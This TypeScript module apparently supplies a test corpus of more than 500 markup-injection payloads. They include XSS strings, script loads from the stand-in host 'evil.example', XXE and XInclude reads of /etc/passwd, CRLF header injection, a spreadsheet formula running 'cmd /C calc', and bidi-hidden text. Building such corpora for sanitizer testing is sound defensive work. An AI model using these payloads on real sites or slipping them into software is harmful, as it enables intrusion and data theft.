// Texts that a browser might run, follow or load, wherever they stand in a page: every way out of the place around a text,
// times every thing to do there; and what other languages of templates, feeds and calendars would take for their own.

/** What would be seen if any of them ran: a dialog, and a name in the window. */
const act = 'alert(pwned=1)';
const evil = '//evil.example';

/** Ways out of an attribute, an element, a script, a comment. */
const ways = [
  '',
  '">',
  "'>",
  '`>',
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '-->',
  ']]>',
  '</a></p></td></table>',
  '</svg>',
  '&quot;&gt;',
  '\\"></',
];

const things = [
  `<script>${act}</script>`,
  `<script src=${evil}/x.js></script>`,
  `<ScRiPt type=module>${act}</sCrIpT>`,
  `<img src=x onerror=${act}>`,
  `<img/src=x/onerror=${act}//`,
  `<img src="x" srcset="${evil}/x.png 2x">`,
  `<svg onload=${act}>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${act}"/></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
  `<math href="javascript:${act}">x</math>`,
  `<body onload=${act}>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<object data="javascript:${act}"></object>`,
  `<embed src="javascript:${act}">`,
  `<a href="javascript:${act}" id=x>x</a>`,
  `<a href=" \u0001java\tscript:${act}">x</a>`,
  `<details open ontoggle=${act}>x</details>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}></audio>`,
  `<input autofocus onfocus=${act}>`,
  `<form action="javascript:${act}"><button autofocus onfocus=${act}>x</button></form>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<style>@import "${evil}/x.css";*{background:url(${evil}/y)}</style>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<base href="${evil}/">`,
  `<meta http-equiv=refresh content="0;url=${evil}/">`,
  `<div style="position:fixed;inset:0;background:red">x</div>`,
  `<x onclick=${act} onpointerover=${act} tabindex=1 autofocus onfocus=${act}>x</x>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><script>${act}</script></template>`,
];

/** What stands for itself: no way out is needed, or the place is another language. */
const others = [
  // In an attribute.
  `" onmouseover="${act}`,
  `' onfocus='${act}' autofocus x='`,
  `x onerror=${act} `,
  `" autofocus onfocus=${act} x="`,
  // As an address.
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\nscript:${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `${evil}/x`,
  `https://user:pass@evil.example/`,
  // In a script or in JSON.
  `";${act};//`,
  `';${act};//`,
  `\\";${act};//`,
  '`+' + act + '+`',
  `\${${act}}`,
  `"},"x":"</script><script>${act}</script>`,
  `\u2028${act}\u2029`,
  `</script\t><script>${act}</script>`,
  `<!--<script>${act}</script>`,
  `<!--><script>${act}</script>-->`,
  `*/${act}/*`,
  `"__proto__":{"x":1}`,
  // In other languages of templates.
  `{{constructor.constructor("${act}")()}}`,
  `{%${act}%}`,
  `<%=${act}%>`,
  `#{${act}}`,
  `[[${act}]]`,
  `{@html '<img src=x onerror=${act}>'}`,
  `<Fragment set:html="<img src=x onerror=${act}>"/>`,
  // Written in another way.
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${act}&#x3e;`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${act}\\x3c/script\\x3e`,
  `＜script＞${act}＜/script＞`,
  `<scr\u0001ipt>${act}</scr\u0001ipt>`,
  `<scr\u200bipt>${act}</scr\u200bipt>`,
  `<\u0085script>${act}</script>`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
  `¼script¾${act}¼/script¾`,
  `<<script>${act}//<</script>`,
  `<script/x>${act}</script>`,
  `<script\n>${act}</script>`,
  `<img src=x onerror\n=${act}>`,
  `<img src=x onerror=&#97;lert(pwned=1)>`,
  `<svg/onload=${act}`,
  // In Markdown.
  `[x](javascript:${act})`,
  `![x](${evil}/x.png)`,
  `<javascript:${act}>`,
  // In XML.
  `<?xml-stylesheet href="${evil}/x.xsl"?>`,
  `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<![CDATA[<script>${act}</script>]]>`,
  `]]><x:script xmlns:x="http://www.w3.org/1999/xhtml">${act}</x:script>`,
  `<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${act}</script>`,
  // In a calendar, a header, a table.
  `x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:x`,
  `x\nATTACH:${evil}/x`,
  `x\\nURL:javascript:${act}`,
  `x\r\nSet-Cookie: x=1`,
  `x\r\n\r\n<script>${act}</script>`,
  `=HYPERLINK("https:${evil}","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  // Text that turns around or hides.
  `\u202Egnp.tpircs\u202C<img src=x onerror=${act}>`,
  `<img src=x onerror=${act}>${'\u0300'.repeat(40)}`,
];

/** More than 500 different ones, in a fixed order. */
export const markupPayloads: readonly string[] = [
  ...others,
  ...ways.flatMap((way) => things.map((thing) => way + thing)),
];

/** Every so many-th of them, from one that a seed names. */
export function somePayloads(every: number, seed: number): string[] {
  return markupPayloads.filter((_, at) => at % every === seed % every);
}
